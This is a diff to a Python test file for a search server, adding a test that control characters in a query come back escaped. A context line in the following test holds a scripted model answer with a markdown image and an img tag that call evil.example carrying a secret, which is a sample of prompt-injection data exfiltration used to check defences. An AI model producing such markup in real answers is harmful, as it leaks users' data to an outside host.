@@ -336,6 +336,12 @@ def test_what_is_planted_in_a_document_is_harmless_where_it_is_shown(server: Ser
         assert_harmless(text)
 
 
+def test_what_a_client_sends_comes_back_without_control_characters(server: Server) -> None:
+    answer = server.post("/search", {"query": "boiler \x9b31m\x7f"})
+    assert "\\u009b31m\\u007f" in answer.text
+    assert answer.json()["query"] == "boiler \x9b31m\x7f"
+
+
 def test_a_model_that_obeys_a_document_can_still_do_nothing(server: Server, llm: FakeLlm) -> None:
     llm.answers(
         "The gauge shows two bar [1]. ![x](https://evil.example/b.png?d=secret) <img src=//evil.example/y>"
